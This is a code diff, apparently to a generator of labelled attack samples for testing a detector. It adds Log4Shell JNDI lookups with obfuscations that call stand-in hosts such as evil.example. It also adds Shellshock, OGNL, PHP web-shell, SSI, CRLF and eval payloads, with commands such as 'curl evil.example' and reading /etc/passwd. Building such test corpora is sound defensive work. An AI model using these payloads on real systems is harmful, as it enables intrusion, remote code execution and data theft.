@@ -211,18 +211,54 @@ function synthesizeQueryLanguage(random: Random): { text: string; category: stri
   }
 }
 
-/** Attacks built from grammar rather than taken from a list: command, SQL, script, path, template, redirect, LDAP/NoSQL/XXE. */
+/** Log4Shell lookups and their nesting obfuscations. */
+function synthesizeJndi(random: Random): string {
+  const proto = pick(['ldap', 'ldaps', 'rmi', 'dns', 'iiop', 'corba', 'nis', 'nds', 'http'], random);
+  const jndi = pick(['jndi', '${lower:j}ndi', '${::-j}${::-n}${::-d}${::-i}', '${env:NOPE:-j}ndi', 'j${::-n}di', '${upper:j}${upper:n}${lower:d}${lower:i}'], random);
+  const sep = pick([':', '${::-:}'], random);
+  const host = pick(['evil.example', '${hostName}.evil.example', '10.0.0.1:1389', 'x.${env:USER}.evil.example'], random);
+  return `${pick(['', '', 'x', 'Mozilla/5.0 '], random)}\${${jndi}${sep}${proto}://${host}/${pick(['a', 'Exploit', 'o=tomcat', ''], random)}}`;
+}
+
+/** Other code-injection shapes: Shellshock, OGNL, PHP, SSI, EL, CRLF header injection. */
+function synthesizeCodeInjection(random: Random): string {
+  const cmd = pick(['id', '/bin/cat /etc/passwd', 'curl evil.example', 'whoami'], random);
+  return pick(
+    [
+      `() { :; }; ${pick(['/bin/bash -c', 'echo;', '/usr/bin/env'], random)} '${cmd}'`,
+      `() { _; } >_[$($())] { ${cmd}; }`,
+      `%{(#_='multipart/form-data').(#cmd='${cmd}').(@java.lang.Runtime@getRuntime().exec(#cmd))}`,
+      `\${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('${cmd}')}`,
+      `<?php system('${cmd}'); ?>`,
+      `<?php echo shell_exec($_GET['c']); ?>`,
+      `<!--#exec cmd="${cmd}" -->`,
+      `<!--#include virtual="/etc/passwd" -->`,
+      `\${pageContext.request.getSession().setAttribute("a",1)}`,
+      `\r\nSet-Cookie: session=${Math.floor(random() * 1e6)}`,
+      `%0d%0aSet-Cookie:%20x=${Math.floor(random() * 1e6)}`,
+      `\r\nLocation: http://evil.example/\r\n\r\n<script>alert(1)</script>`,
+      `system('${cmd}');`,
+      `eval(base64_decode('${pick(['c3lzdGVtKCJpZCIpOw==', 'cGhwaW5mbygpOw=='], random)}'))`,
+      `__import__('os').system('${cmd}')`,
+    ],
+    random,
+  );
+}
+
+/** Attacks built from grammar rather than taken from a list: command, SQL, script, path, template, redirect, LDAP/NoSQL/XXE, JNDI, other code injection. */
 export function synthesizeAttacks(seed: number, count: number): { text: string; category: string }[] {
   const random = seededRandom(seed ^ 0xa77ac);
   const out: { text: string; category: string }[] = [];
   for (let i = 0; i < count; i++) {
-    const kind = i % 8;
+    const kind = i % 10;
     if (kind === 0 || kind === 5) out.push({ text: synthesizeCommandInjection(random), category: 'cmdexe' });
     else if (kind === 1) out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
     else if (kind === 2) out.push({ text: synthesizeXss(random), category: 'xss' });
     else if (kind === 3) out.push({ text: synthesizeTraversal(random), category: 'traversal' });
     else if (kind === 4) out.push({ text: random() < 0.5 ? synthesizeSsti(random) : synthesizeOpenRedirect(random), category: 'ssti-redirect' });
     else if (kind === 6) out.push(synthesizeQueryLanguage(random));
+    else if (kind === 8) out.push({ text: synthesizeJndi(random), category: 'jndi' });
+    else if (kind === 9) out.push({ text: synthesizeCodeInjection(random), category: 'code-injection' });
     else out.push({ text: synthesizeSqlInjection(random), category: 'sqli' });
   }
   return out;
